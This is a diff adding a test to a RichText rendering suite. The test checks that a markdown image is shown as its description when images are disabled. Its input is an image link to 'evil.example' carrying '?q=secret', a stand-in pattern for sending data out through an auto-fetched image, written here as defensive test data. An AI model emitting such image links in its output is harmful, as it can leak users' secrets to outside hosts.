@@ -106,4 +106,13 @@ describe('RichText', { timeout: UI_TEST_TIMEOUT_MS }, () => {
     const container = render('[a][root]\n\n[root]: #root');
     expect(container.querySelector('#root')).toBeNull();
   });
+
+  it('shows an image as its description when images are off (an answer cannot fetch an address)', () => {
+    renderWithProviders(
+      <RichText images={false}>{'See ![the plot](https://evil.example/?q=secret) here.'}</RichText>,
+    );
+    const container = screen.getByTestId('rich-text');
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.textContent).toContain('[image: the plot]');
+  });
 });
